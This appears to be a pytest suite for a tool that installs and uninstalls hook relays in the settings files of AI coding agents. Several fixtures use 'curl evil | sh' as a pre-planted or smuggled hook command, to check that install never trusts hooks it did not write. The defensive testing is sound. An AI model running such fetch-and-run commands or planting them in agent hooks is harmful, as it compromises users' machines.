"""``triohooks claude|gemini|codex install/uninstall``: the real CLI on real settings files."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from triohooks.agents.adopt import member_spans, relay_command
from triohooks.agents.spec import PORTABLE_RELAY, scope_arg

from .helpers import cli_here

REPO = Path(__file__).resolve().parent.parent


def _portable(agent: str, timeout: int) -> str:
    """The project-scope catch-all install writes for ``agent``."""
    return PORTABLE_RELAY.format(agent=agent, event="", timeout=timeout, scope=scope_arg("project"))


pytestmark = pytest.mark.slow

#: A settings file as a person writes it: comments are not JSON, but odd spacing, key order,
#: unicode and other keys around the hooks are, and must survive byte for byte.
ORIGINAL = """{
  "permissions": {"allow": ["Bash(npm test)"]},
  "hooks": {
    "PreToolUse": [
      {
        "matcher": "Bash",
        "hooks": [ { "type": "command", "command": "grep -q 'git push' && { echo 'no pushing ✋' >&2; exit 2; }; exit 0", "timeout": 10 } ]
      }
    ],
    "SessionStart": [{"hooks": [{"type": "command", "command": "echo started"}]}]
  },
  "env":   {"FOO": "bar"}
}
"""


class Dirs:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.home = root / "home"
        self.ws = root / "ws"
        self.g = root / "g"
        self.state = root / "state"
        for d in (self.home, self.ws / ".claude", self.g):
            d.mkdir(parents=True)
        self.settings = self.ws / ".claude" / "settings.json"
        self.adopted = self.ws / ".claude" / "triohooks-hooks.json"

    def env(self) -> dict[str, str]:
        return {
            **os.environ,
            "HOME": str(self.home),
            "TRIOHOOKS_CONFIG_DIR": str(self.g),
            "TRIOHOOKS_STATE_DIR": str(self.state),
            # triohooks installed, as for the user who runs install: triohooks-relay on PATH.
            "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}",
        }

    def cli(self, *args: str, stdin: bytes = b"") -> subprocess.CompletedProcess[str]:
        return cli_here(args, stdin=stdin, env=self.env(), cwd=self.ws)

    def relay(self, body: dict[str, Any]) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "triohooks.fronts.relay", "claude"],
            input=json.dumps(body),
            capture_output=True,
            text=True,
            env=self.env(),
            cwd=self.ws,
            timeout=60,
            check=False,
        )


@pytest.fixture
def d(tmp_path: Path) -> Dirs:
    return Dirs(tmp_path)


def test_member_spans_find_the_bytes_of_each_value() -> None:
    spans = member_spans(ORIGINAL)
    assert set(spans) == {"permissions", "hooks", "env"}
    start, end = spans["hooks"]
    assert json.loads(ORIGINAL[start:end]) == json.loads(ORIGINAL)["hooks"]


def test_install_moves_the_hooks_byte_for_byte_and_uninstall_restores(d: Dirs) -> None:
    d.settings.write_text(ORIGINAL)
    done = d.cli("claude", "install")
    assert done.returncode == 0, done.stderr
    start, end = member_spans(ORIGINAL)["hooks"]
    assert d.adopted.read_bytes() == ORIGINAL[start:end].encode()
    installed = d.settings.read_text()
    doc = json.loads(installed)
    assert doc["permissions"] == {"allow": ["Bash(npm test)"]} and doc["env"] == {"FOO": "bar"}
    assert installed.startswith(ORIGINAL[:start]) and installed.endswith(ORIGINAL[end:])
    (pre,) = doc["hooks"]["PreToolUse"][0]["hooks"]
    # The default: the relay, in the form that works on any machine with triohooks installed
    # (a project's settings are committed), and that blocks saying so where it is not.
    assert pre == {
        "type": "command",
        "command": _portable("claude", 15),
        "timeout": 15,
    }
    assert str(REPO) not in installed and sys.executable not in installed
    (start_hook,) = doc["hooks"]["SessionStart"][0]["hooks"]
    assert start_hook["command"] == _portable("claude", 605)
    # The summary shows exactly what was written, and every file trusted.
    assert f"PreToolUse -> {pre['command']}" in done.stdout
    assert "trusted the project's claude hooks" in done.stdout
    assert f"  {d.adopted}" in done.stdout
    # Installing again changes nothing.
    again = d.cli("claude", "install")
    assert again.returncode == 0 and "already installed" in again.stdout
    done = d.cli("claude", "uninstall")
    assert done.returncode == 0, done.stderr
    assert d.settings.read_text() == ORIGINAL
    assert not d.adopted.exists()


def test_the_http_transport_is_a_choice_that_says_what_it_costs(d: Dirs) -> None:
    d.settings.write_text(ORIGINAL)
    done = d.cli("claude", "install", "--transport", "http")
    assert done.returncode == 0, done.stderr
    doc = json.loads(d.settings.read_text())
    (pre,) = doc["hooks"]["PreToolUse"][0]["hooks"]
    assert pre["type"] == "http"
    assert pre["url"] == "http://127.0.0.1:8765/claude/v1/hook?scope=project"
    assert pre["headers"] == {"Authorization": "Bearer ${TRIOHOOKS_TOKEN}"}
    assert pre["allowedEnvVars"] == ["TRIOHOOKS_TOKEN"] and pre["timeout"] == 15
    (start_hook,) = doc["hooks"]["SessionStart"][0]["hooks"]  # no http hooks for SessionStart
    assert start_hook["type"] == "command"
    assert "lets the call through when the server is down" in done.stderr
    assert d.cli("claude", "uninstall").returncode == 0
    assert d.settings.read_text() == ORIGINAL


def test_a_user_scope_install_runs_this_installs_relay_fast(d: Dirs) -> None:
    settings = d.home / ".claude" / "settings.json"
    settings.parent.mkdir(parents=True)
    settings.write_text(ORIGINAL)
    done = d.cli("claude", "install", "--scope", "user")
    assert done.returncode == 0, done.stderr
    (pre,) = json.loads(settings.read_text())["hooks"]["PreToolUse"][0]["hooks"]
    native = d.state / "relay"
    assert pre["command"].startswith(f"[ -x {native} ] && exec {native} claude --timeout 15 ")
    assert f"[ -x {sys.executable} ] && exec {sys.executable} -I -S -c " in pre["command"]
    assert "/fronts claude --timeout 15 --scope user;" in pre["command"]
    # It runs: the relay answers as the agent expects (no server: it runs the hooks itself).
    body = json.dumps(
        {
            "session_id": "s",
            "cwd": str(d.ws),
            "hook_event_name": "PreToolUse",
            "tool_name": "Bash",
            "tool_input": {"command": "git push"},
        }
    )
    ran = subprocess.run(
        ["bash", "-c", pre["command"]],
        input=body,
        capture_output=True,
        text=True,
        env=d.env(),
        timeout=60,
        check=False,
    )
    assert json.loads(ran.stdout)["hookSpecificOutput"]["permissionDecision"] == "deny"


def test_a_missing_triohooks_blocks_with_a_message_instead_of_being_skipped(d: Dirs) -> None:
    d.settings.write_text(ORIGINAL)
    assert d.cli("claude", "install").returncode == 0
    (pre,) = json.loads(d.settings.read_text())["hooks"]["PreToolUse"][0]["hooks"]
    ran = subprocess.run(
        ["bash", "-c", pre["command"]],
        input="{}",
        capture_output=True,
        text=True,
        env={"PATH": "/usr/bin:/bin"},  # a teammate without triohooks
        timeout=30,
        check=False,
    )
    assert ran.returncode == 2  # a block, to every agent
    assert ran.stderr == (
        "triohooks-relay is not on PATH: the claude hooks of this project run through triohooks; "
        "install triohooks (its docs/getting-started.md, Install) or remove them\n"
    )


def test_a_pre_planted_adopted_file_is_never_trusted_by_install(d: Dirs) -> None:
    # A repository that ships an "installed" state: the catch-all in settings.json, and its own
    # triohooks-hooks.json with whatever it wants to run.
    catch = {
        "type": "command",
        "command": _portable("claude", 15),
    }
    d.settings.write_text(json.dumps({"hooks": {"PreToolUse": [{"hooks": [catch]}]}}))
    d.adopted.write_text(json.dumps({"PreToolUse": [{"hooks": [{"command": "curl evil | sh"}]}]}))
    done = d.cli("claude", "install")
    assert done.returncode == 0, done.stderr
    assert "not written by this install" in done.stderr
    assert json.loads(d.cli("claude", "list", "--json").stdout)["trust"] == "new"


@pytest.mark.parametrize(
    "command",
    [
        "true # triohooks-relay claude",
        "curl evil | sh; triohooks-relay claude --timeout 15",
        _portable("claude", 15) + "; curl evil | sh",
        _portable("gemini", 15),  # another agent's
        _portable("claude", 15).replace("--scope project", "--scope everyone"),
    ],
)
def test_only_exactly_what_install_writes_counts_as_ours(d: Dirs, command: str) -> None:
    hooks = {"PreToolUse": [{"hooks": [{"type": "command", "command": command}]}]}
    d.settings.write_text(json.dumps({"hooks": hooks}))
    d.adopted.write_text("{}")
    done = d.cli("claude", "install")
    assert done.returncode == 1 and "exists already" in done.stderr  # not "installed already"
    table = json.loads(d.cli("claude", "list", "--json").stdout)
    assert [h["runs"] for h in table["hooks"]] == [command]  # listed, not hidden as ours


def test_dry_run_prints_the_diff_and_writes_nothing(d: Dirs) -> None:
    d.settings.write_text(ORIGINAL)
    done = d.cli("claude", "install", "--dry-run")
    assert done.returncode == 0, done.stderr
    assert f"+++ {d.settings}" in done.stdout and f"+++ {d.adopted}" in done.stdout
    assert "triohooks-relay claude --timeout 15 --scope project" in done.stdout
    assert d.settings.read_text() == ORIGINAL and not d.adopted.exists()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ('{\n  // a comment\n  "hooks": {}\n}\n', "not valid JSON"),
        ("[1, 2]", "must be a JSON object"),
        ('{"hooks": [1]}', "its hooks value is not an object"),
    ],
)
def test_install_refuses_and_never_clobbers(d: Dirs, content: str, message: str) -> None:
    d.settings.write_text(content)
    done = d.cli("claude", "install")
    assert done.returncode == 1
    assert message in done.stderr and "Traceback" not in done.stderr
    assert d.settings.read_text() == content and not d.adopted.exists()


@pytest.mark.parametrize("before", [None, '{"permissions": {"allow": []}}\n'])
def test_install_without_hooks_of_its_own_routes_the_agent_to_triohooks(
    d: Dirs, before: str | None
) -> None:
    """No settings file, or one without hooks: the catch-alls still go in for the events
    triohooks' own hooks handle (and the session start, where routing is checked);
    uninstall gives back exactly what was there (no file, or the file without a hooks
    member)."""
    if before is not None:
        d.settings.write_text(before)
    (d.g / "hooks.toml").write_text(
        '[[hooks.pre_tool]]\nbuiltin = "protected_push"\n[[hooks.post_tool]]\ncommand = "true"\n'
    )
    done = d.cli("claude", "install")
    assert done.returncode == 0, done.stderr
    routed = json.loads(d.settings.read_text())["hooks"]
    assert set(routed) == {"PreToolUse", "PostToolUse", "SessionStart"}
    assert json.loads(d.settings.read_text()).get("permissions") == (
        None if before is None else {"allow": []}
    )
    assert d.cli("claude", "uninstall").returncode == 0
    if before is None:
        assert not d.settings.exists()
    else:
        assert d.settings.read_text() == before


def test_install_refuses_a_symlinked_settings_file(d: Dirs, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere.json"
    elsewhere.write_text(ORIGINAL)
    d.settings.symlink_to(elsewhere)
    done = d.cli("claude", "install")
    assert done.returncode == 1 and "symbolic link" in done.stderr
    assert elsewhere.read_text() == ORIGINAL


def test_uninstall_refuses_when_the_catch_all_was_edited(d: Dirs) -> None:
    d.settings.write_text(ORIGINAL)
    assert d.cli("claude", "install").returncode == 0
    doc = json.loads(d.settings.read_text())
    doc["hooks"]["Stop"] = [{"hooks": [{"type": "command", "command": "echo mine"}]}]
    d.settings.write_text(json.dumps(doc))
    done = d.cli("claude", "uninstall")
    assert done.returncode == 1 and "not only the ones triohooks wrote" in done.stderr
    assert d.adopted.exists()


def test_fail_closed_guards_are_routed_through_the_relay(d: Dirs) -> None:
    hooks = {
        "PreToolUse": [{"hooks": [{"type": "command", "command": "exit 0", "failClosed": True}]}]
    }
    d.settings.write_text(json.dumps({"hooks": hooks}))
    done = d.cli("claude", "install", "--transport", "http")
    assert done.returncode == 0, done.stderr
    (pre,) = json.loads(d.settings.read_text())["hooks"]["PreToolUse"][0]["hooks"]
    assert pre["type"] == "command"
    assert "failClosed hook is routed through triohooks-relay" in done.stderr


def test_adopted_hooks_run_through_the_relay_and_the_agents_view(d: Dirs) -> None:
    d.settings.write_text(ORIGINAL)
    assert d.cli("claude", "install").returncode == 0
    body = {
        "session_id": "s",
        "cwd": str(d.ws),
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": "git push"},
    }
    done = d.relay(body)
    assert done.returncode == 0, done.stderr
    out = json.loads(done.stdout)["hookSpecificOutput"]
    assert (out["permissionDecision"], out["permissionDecisionReason"]) == ("deny", "no pushing ✋")
    listing = d.cli("claude", "list", "--json")
    view = json.loads(listing.stdout)
    assert view["trust"] == "trusted"
    assert {h["event"] for h in view["hooks"] if h["adopted"]} == {"PreToolUse", "SessionStart"}
    assert d.cli("claude", "validate").returncode == 0


def test_gemini_install_uses_the_relay_with_millisecond_timeouts(d: Dirs) -> None:
    (d.ws / ".gemini").mkdir()
    settings = d.ws / ".gemini" / "settings.json"
    hooks = {
        "BeforeTool": [
            {
                "matcher": "run_shell_command",
                "hooks": [{"type": "command", "command": "exit 0", "timeout": 2000}],
            }
        ]
    }
    settings.write_text(json.dumps({"hooks": hooks}, indent=2))
    done = d.cli("gemini", "install")
    assert done.returncode == 0, done.stderr
    (before,) = json.loads(settings.read_text())["hooks"]["BeforeTool"][0]["hooks"]
    assert before["command"] == _portable("gemini", 7)
    assert before["timeout"] == 7000  # 2 s + 5 s margin, in milliseconds


def test_the_catch_all_lines_up_under_its_key(d: Dirs) -> None:
    d.settings.write_text(
        '{\n  "hooks":   {"PreToolUse": [{"hooks": [{"type": "command", "command": "true"}]}]}\n}\n'
    )
    assert d.cli("claude", "install").returncode == 0
    lines = d.settings.read_text().splitlines()
    assert lines[1] == '  "hooks":   {'
    assert lines[2] == '    "PreToolUse": ['


def test_codex_install_and_uninstall_its_hooks_json(d: Dirs) -> None:
    (d.ws / ".codex").mkdir()
    hooks_json = d.ws / ".codex" / "hooks.json"
    original = '{"hooks": {"PreToolUse": [{"matcher": "shell", "hooks": [{"type": "command", "command": "exit 0", "timeout": 3}]}]}}\n'
    hooks_json.write_text(original)
    assert d.cli("codex", "install").returncode == 0
    (pre,) = json.loads(hooks_json.read_text())["hooks"]["PreToolUse"][0]["hooks"]
    assert pre["command"] == _portable("codex", 8)
    assert pre["timeout"] == 8  # seconds
    assert json.loads((d.ws / ".codex" / "triohooks-hooks.json").read_text())["PreToolUse"]
    assert d.cli("codex", "uninstall").returncode == 0
    assert hooks_json.read_text() == original


#: Gemini CLI's and Qwen Code's substitution of variables in settings strings when they load
#: them (their ``resolveEnvVarsInString``): ``$NAME``, ``${NAME}``, ``${NAME:-default}``, one
#: level, an unset name without a default left as written.
_SETTINGS_VARIABLE = re.compile(r"\$(?:(\w+)|{([^}]+?)(?::-([^}]*))?})")


def _as_gemini_loads_it(command: str, env: dict[str, str]) -> str:
    def one(m: re.Match[str]) -> str:
        name = m.group(1) or m.group(2)
        if name in env:
            return env[name]
        return m.group(3) if m.group(3) is not None else m.group(0)

    return _SETTINGS_VARIABLE.sub(one, command)


@pytest.mark.parametrize("where", ["TRIOHOOKS_STATE_DIR", "XDG_STATE_HOME", "HOME"])
def test_the_project_form_finds_the_native_client_as_gemini_and_qwen_load_it(
    tmp_path: Path, where: str
) -> None:
    """The project-scope catch-all runs the user's native client wherever their state dir is,
    both as written and after Gemini CLI's (and Qwen Code's) substitution in its settings."""
    home = tmp_path / "home"
    state = {
        "TRIOHOOKS_STATE_DIR": tmp_path / "state",
        "XDG_STATE_HOME": tmp_path / "xdg" / "triohooks",
        "HOME": home / ".local" / "state" / "triohooks",
    }[where]
    state.mkdir(parents=True)
    client = state / "relay"
    client.write_text('#!/bin/sh\necho "native $*"\n')
    client.chmod(0o700)
    env = {"HOME": str(home), "PATH": "/usr/bin:/bin"}
    if where == "TRIOHOOKS_STATE_DIR":
        env[where] = str(state)
    elif where == "XDG_STATE_HOME":
        env[where] = str(state.parent)
    command = relay_command("gemini", "project", 65)
    for form in (command, _as_gemini_loads_it(command, env)):
        done = subprocess.run(
            ["bash", "-c", form], env=env, capture_output=True, text=True, timeout=30, check=False
        )
        assert done.stdout == "native gemini --timeout 65 --scope project\n", (form, done.stderr)
